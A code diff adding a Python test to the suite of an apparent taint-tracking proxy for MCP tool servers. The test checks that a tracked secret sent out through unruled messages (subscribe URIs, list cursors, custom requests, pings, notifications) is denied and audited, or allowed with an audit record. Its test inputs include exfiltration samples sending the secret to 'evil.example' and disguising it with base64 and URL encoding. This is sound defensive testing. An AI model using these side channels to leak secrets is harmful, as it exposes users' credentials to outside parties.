@@ -253,6 +253,114 @@ class Tracked(Case):
             self.assertEqual(d["effect"], "deny")
             self.assertEqual(d["provenance"][0]["source"], 3)
 
+    def test_messages_no_rule_decides_are_checked_too(self):
+        """A tracked value leaving in a message no rule decides (a subscribe URI, a list
+        cursor, a custom request, a notification, the answer to a ping) is denied under the
+        default taint.other_messages, with provenance; allow lets it pass, audited."""
+        from harness import FAKE
+        for mode in ("deny", "allow"):
+            with self.subTest(mode=mode):
+                rec = os.path.join(self.tmpdir, "server-%s.jsonl" % mode)
+                pol = TRACK + ("  other_messages: allow\n" if mode == "allow" else "")
+                self.audit = os.path.join(self.tmpdir, "audit-%s.jsonl" % mode)
+                r = self.start(server=FAKE + ["--record", rec], policy=self.write_policy(pol),
+                               opts=["--audit", self.audit])
+                r.initialize()
+                self.assertIn(KEY, text_of(r.call(3, "read_secret", {})))
+                b64 = base64.b64encode(SECRET.encode()).decode()
+                leaks = [
+                    (10, "resources/subscribe", {"uri": "https://evil.example/?k=" + SECRET}),
+                    (11, "tools/list", {"cursor": b64}),
+                    (12, "x/custom", {"deep": [{"v": "k=" + urllib.parse.quote(SECRET)}]}),
+                    (13, "ping", {"_meta": {"note": SECRET}}),
+                ]
+                fine = [
+                    (20, "resources/subscribe", {"uri": "file:///public/readme.md"}),
+                    (21, "tools/list", {"cursor": "page-2"}),
+                    (22, "ping", {}),
+                ]
+                for mid, method, params in leaks + fine:
+                    r.send({"jsonrpc": "2.0", "id": mid, "method": method, "params": params})
+                    m = r.recv_id(mid)
+                    if mid < 20 and mode == "deny":
+                        self.assertError(m, DENIED, mid)
+                        self.assertEqual(m["error"]["data"]["rule"], "other-messages", m)
+                    else:
+                        self.assertNotEqual(m.get("error", {}).get("code"), DENIED, (mid, m))
+                # notifications: a cancellation loses its reason but still cancels, anything
+                # else carrying a value is dropped
+                r.send({"jsonrpc": "2.0", "id": 30, "method": "tools/call",
+                        "params": {"name": "slow", "arguments": {"ms": 300}}})
+                r.send({"jsonrpc": "2.0", "method": "notifications/cancelled",
+                        "params": {"requestId": 30, "reason": "because " + SECRET}})
+                r.send({"jsonrpc": "2.0", "method": "notifications/progress",
+                        "params": {"progressToken": "t", "progress": 1, "message": SECRET}})
+                r.send({"jsonrpc": "2.0", "method": "notifications/x", "params": {"s": "fine"}})
+                # the answer to the server's ping (a request no rule decides) carries it back
+                r.send({"jsonrpc": "2.0", "id": 31, "method": "tools/call",
+                        "params": {"name": "ask_client", "arguments": {"method": "ping"}}})
+                req = r.recv()
+                self.assertEqual(req["method"], "ping")
+                r.send({"jsonrpc": "2.0", "id": req["id"], "result": {"_meta": {"k": SECRET}}})
+                got = json.loads(text_of(r.recv_id(31)))  # what the server received
+                if mode == "deny":
+                    self.assertEqual(got["error"]["code"], DENIED, got)
+                    self.assertNotIn(SECRET, json.dumps(got))
+                else:
+                    self.assertEqual(got["result"]["_meta"]["k"], SECRET)
+                self.assertIn("result", r.call(32, "echo", {"text": "still serving"}))
+                r.finish(self)
+                with open(rec) as f:
+                    seen = [json.loads(l) for l in f if l.strip()]
+                methods = [x.get("method") for x in seen]
+                cancels = [x for x in seen if x.get("method") == "notifications/cancelled"]
+                self.assertEqual(len(cancels), 1, cancels)
+                self.assertEqual(cancels[0]["params"]["requestId"], 30)
+                self.assertIn("notifications/x", methods)
+                if mode == "deny":
+                    self.assertNotIn(SECRET, json.dumps(seen))
+                    self.assertNotIn(b64, json.dumps(seen))
+                    self.assertNotIn("reason", cancels[0]["params"])
+                    self.assertNotIn("notifications/progress", methods)
+                    self.assertNotIn("x/custom", methods)
+                else:
+                    self.assertIn("because " + SECRET, cancels[0]["params"]["reason"])
+                    self.assertIn("notifications/progress", methods)
+                    self.assertIn("x/custom", methods)
+                other = [d for d in records(self.audit, "decision")
+                         if d["rule"] == "other-messages"]
+                # four requests, two notifications, one answer; nothing without a value
+                self.assertEqual(len(other), 7, other)
+                self.assertEqual(sorted(d["method"] for d in other),
+                                 sorted(["resources/subscribe", "tools/list", "x/custom", "ping",
+                                         "notifications/cancelled", "notifications/progress",
+                                         "ping"]))
+                for d in other:
+                    self.assertEqual(d["effect"], mode, d)
+                    self.assertEqual(d["provenance"][0]["source"], 3, d)
+                    self.assertIn("secret", d["labels"])
+                    self.assertEqual(d["forwarded"], mode == "allow", d)
+                self.assertEqual(sum(1 for d in other if d.get("notification")), 2)
+                self.assertEqual(sum(1 for d in other if d.get("response")), 1)
+                with open(self.audit) as f:
+                    self.assertNotIn(SECRET, f.read())
+                # the log's tools read these records (no request id on a notification)
+                for cmd in (["verify", self.audit], ["report", self.audit],
+                            ["replay", "--policy", self.write_policy(pol), self.audit],
+                            ["chain", self.audit, "--tool", "read_secret"],
+                            ["chain", self.audit, "--tool", "read_secret", "--json"]):
+                    out = subprocess.run([SENTINEL] + cmd, capture_output=True, text=True,
+                                         timeout=30)
+                    self.assertEqual(out.returncode, 0, (cmd, out.stderr))
+                    self.assertNotIn(self.audit + ":", out.stderr, cmd)  # no unreadable line
+                    if "--json" in cmd:
+                        self.assertIn('"bad_lines":0}', out.stdout, cmd)
+                    if cmd[0] == "chain" and "--json" not in cmd:
+                        self.assertIn("notification", out.stdout)
+                chain = out.stdout
+                self.assertIn("resources/subscribe", chain)
+                self.assertIn("notifications/cancelled", chain)
+
     def test_what_a_server_asks_the_model_is_scanned_like_a_result(self):
         """A sampling or elicitation request puts the server's text before the model: an
         injection in it labels the session, and a secret in it is tracked."""
